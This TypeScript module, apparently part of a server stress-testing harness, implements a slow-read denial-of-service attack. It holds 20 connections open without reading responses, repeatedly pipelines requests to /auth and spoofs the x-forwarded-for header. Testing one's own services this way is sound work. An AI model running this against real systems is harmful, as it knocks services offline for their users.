import { connect, type Socket } from 'node:net'
import type { Attack } from './attack.ts'
import { pause } from './send.ts'

const CONNECTIONS = 20
const AHEAD = { all: 200, few: 8 }
const AGAIN_MS = 1_000

/** Connections that ask for pages of a person and never read: half of them all at once, half a few at a time. */
export const slowReaders: Attack = ({ host, port }) => {
  const open = new Set<Socket>()
  let opened = 0
  let going = true
  const question = `GET /auth HTTP/1.1\r\nhost: ${host}\r\nx-forwarded-for: 203.0.113.9\r\n\r\n`

  async function readNothing(ahead: number): Promise<void> {
    while (going) {
      const socket = connect({ host, port }).pause()
      opened++
      open.add(socket)
      socket.write(question.repeat(ahead))
      const more = setInterval(() => socket.write(question.repeat(ahead)), AGAIN_MS)
      await new Promise<void>((gone) => {
        socket.on('error', () => gone())
        socket.on('close', () => gone())
      })
      clearInterval(more)
      open.delete(socket)
      await pause(AGAIN_MS)
    }
  }
  for (let one = 0; one < CONNECTIONS; one++) void readNothing(one % 2 === 0 ? AHEAD.all : AHEAD.few)
  return {
    report: () => `${opened} connections opened, ${open.size} held`,
    stop() {
      going = false
      for (const socket of open) socket.destroy()
    },
  }
}
